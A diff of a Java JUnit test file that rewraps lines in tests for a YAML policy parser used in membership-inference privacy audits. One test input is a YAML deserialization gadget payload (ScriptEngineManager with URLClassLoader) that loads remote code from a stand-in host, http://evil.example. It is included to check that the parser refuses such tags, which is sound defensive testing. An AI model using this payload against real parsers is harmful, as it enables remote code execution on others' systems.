@@ -18,7 +18,8 @@ import org.junit.jupiter.api.io.TempDir;
 
 class PolicyTest {
 
-    private static final String FIGURES = "auc, auc-upper-bound, tpr, tpr-upper-bound, patient-auc-upper-bound, patient-tpr-upper-bound, patients-exposed,"
+    private static final String FIGURES = "auc, auc-upper-bound, tpr, tpr-upper-bound, patient-auc-upper-bound, patient-tpr-upper-bound,"
+            + " patients-exposed,"
             + " patients-exposed-upper-bound, empirical-leakage, epsilon-lower-bound, excluded-sentences, overlapping-sentences, validity";
 
     @TempDir
@@ -59,7 +60,8 @@ class PolicyTest {
 
     @Test
     void readsJsonAndMarkedFilesToo() throws IOException {
-        Policy policy = read("\uFEFF{\"against\": \"externals\", \"limits\": [{\"figure\": \"auc\", \"attack\": \"loss\", \"at-most\": 0.6}]}");
+        Policy policy = read(
+                "\uFEFF{\"against\": \"externals\", \"limits\": [{\"figure\": \"auc\", \"attack\": \"loss\", \"at-most\": 0.6}]}");
         assertEquals("auc of loss against externals is at most 0.6", policy.check(new EditedAudit().document()).checks().get(0).limit());
     }
 
@@ -72,7 +74,8 @@ class PolicyTest {
         assertEquals("2: limits is no list; start each limit with a dash, such as - figure: auc", refused("limits:\n  figure: auc\n"));
         assertEquals("1: limits is no list; start each limit with a dash, such as - figure: auc", refused("limits:\n"));
         assertEquals("1: limits is empty; at least one limit is needed", refused("limits: []\n"));
-        assertEquals("2: a limit has keys and values; known keys are figure, attack, fpr, at-most, at-least", refused("limits:\n  - auc\n"));
+        assertEquals("2: a limit has keys and values; known keys are figure, attack, fpr, at-most, at-least",
+                refused("limits:\n  - auc\n"));
         assertEquals("2: key limit is unknown; known are against, limits", refused("limits: []\nlimit: []\n"));
         assertEquals("1: against is members; it must be non_members or externals", refused("against: members\nlimits: []\n"));
         Files.write(file, new byte[] {'a', (byte) 0xFF});
@@ -84,7 +87,8 @@ class PolicyTest {
 
     @Test
     void namesLinesThatAreNoYaml() throws IOException {
-        assertEquals("3: is not valid YAML 1.2: mapping values are not allowed here", refused("limits:\n  - figure: auc\n    at-most: 1: 2\n"));
+        assertEquals("3: is not valid YAML 1.2: mapping values are not allowed here",
+                refused("limits:\n  - figure: auc\n    at-most: 1: 2\n"));
         assertEquals("2: is not valid YAML 1.2: expected the node content, but found '<stream end>'", refused("limits: [\n"));
         assertEquals("2: has the character U+0000, which YAML forbids; remove it", refused("limits:\n  - figure: \0\n"));
         assertEquals("2: starts a second document; a policy is one", refused("limits: []\n---\nlimits: []\n"));
@@ -94,14 +98,17 @@ class PolicyTest {
     void namesLimitsThatAreNone() throws IOException {
         assertEquals("2: this limit has no figure; known are " + FIGURES, refused("limits:\n  - at-most: 1\n"));
         assertEquals("2: figure accuracy is unknown; known are " + FIGURES, refused("limits:\n  - figure: accuracy\n    at-most: 1\n"));
-        assertEquals("3: key at-mots is unknown; known are figure, attack, fpr, at-most, at-least", refused("limits:\n  - figure: auc\n    at-mots: 1\n"));
-        assertEquals("4: key fpr is there already; leave one out", refused("limits:\n  - figure: tpr\n    fpr: 0.1\n    fpr: 0.01\n    at-most: 1\n"));
+        assertEquals("3: key at-mots is unknown; known are figure, attack, fpr, at-most, at-least",
+                refused("limits:\n  - figure: auc\n    at-mots: 1\n"));
+        assertEquals("4: key fpr is there already; leave one out",
+                refused("limits:\n  - figure: tpr\n    fpr: 0.1\n    fpr: 0.01\n    at-most: 1\n"));
         assertEquals("3: key limits is there already; leave one out", refused("limits:\n  - {figure: auc, at-most: 1}\nlimits: []\n"));
         assertEquals("2: figure auc needs the key at-most, such as at-most: 0.6", refused("limits:\n  - figure: auc\n"));
         assertEquals("2: figure tpr needs the key fpr, such as fpr: 0.01", refused("limits:\n  - figure: tpr\n    at-most: 0.1\n"));
         assertEquals("2: figure validity needs the key at-least, such as at-least: VALID", refused("limits:\n  - figure: validity\n"));
         assertEquals("3: figure auc takes no fpr; leave it out", refused("limits:\n  - figure: auc\n    fpr: 0.1\n    at-most: 1\n"));
-        assertEquals("3: figure validity takes no attack; leave it out", refused("limits:\n  - figure: validity\n    attack: loss\n    at-least: VALID\n"));
+        assertEquals("3: figure validity takes no attack; leave it out",
+                refused("limits:\n  - figure: validity\n    attack: loss\n    at-least: VALID\n"));
         assertEquals("3: figure validity takes no at-most; say at-least", refused("limits:\n  - figure: validity\n    at-most: VALID\n"));
         assertEquals("3: figure auc takes no at-least; say at-most", refused("limits:\n  - figure: auc\n    at-least: 0.5\n"));
     }
@@ -120,10 +127,14 @@ class PolicyTest {
         assertEquals("3: at-most is a list; it must be one value", refused(auc("[0.6]")));
         assertEquals("3: at-most is a mapping; it must be one value", refused(auc("{a: 1}")));
         assertEquals("3: fpr is 1.5; it must lie in [0, 1]", refused("limits:\n  - figure: tpr\n    fpr: 1.5\n    at-most: 1\n"));
-        assertEquals("3: at-most is -1; it must be at least 0, and finite", refused("limits:\n  - figure: excluded-sentences\n    at-most: -1\n"));
-        assertEquals("3: at-most is 1e999; it must be at least 0, and finite", refused("limits:\n  - figure: empirical-leakage\n    at-most: 1e999\n"));
-        assertEquals("3: at-least is valid; it must be VALID, SHIFTED or NOT_INTERPRETABLE", refused("limits:\n  - figure: validity\n    at-least: valid\n"));
-        assertEquals("3: attack is empty; give it a value, or leave it out", refused("limits:\n  - figure: auc\n    attack:\n    at-most: 1\n"));
+        assertEquals("3: at-most is -1; it must be at least 0, and finite",
+                refused("limits:\n  - figure: excluded-sentences\n    at-most: -1\n"));
+        assertEquals("3: at-most is 1e999; it must be at least 0, and finite",
+                refused("limits:\n  - figure: empirical-leakage\n    at-most: 1e999\n"));
+        assertEquals("3: at-least is valid; it must be VALID, SHIFTED or NOT_INTERPRETABLE",
+                refused("limits:\n  - figure: validity\n    at-least: valid\n"));
+        assertEquals("3: attack is empty; give it a value, or leave it out",
+                refused("limits:\n  - figure: auc\n    attack:\n    at-most: 1\n"));
     }
 
     private static String auc(String most) {
@@ -133,7 +144,8 @@ class PolicyTest {
     @Test
     void makesNothingOfTagsAnchorsAndAliases() throws IOException {
         assertEquals("2: has the tag tag:yaml.org,2002:javax.script.ScriptEngineManager; leave it out",
-                refused("limits:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]\n"));
+                refused("limits:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
+                        + " [\"http://evil.example\"]]]]\n"));
         assertEquals("3: has the tag tag:yaml.org,2002:float; leave it out", refused(auc("!!float 1")));
         assertEquals("2: has the anchor &a; leave it out", refused("limits:\n  - &a {figure: auc, at-most: 1}\n  - *a\n"));
         assertEquals("1: has the alias *a; write out what it stands for", refused("limits: *a\n"));
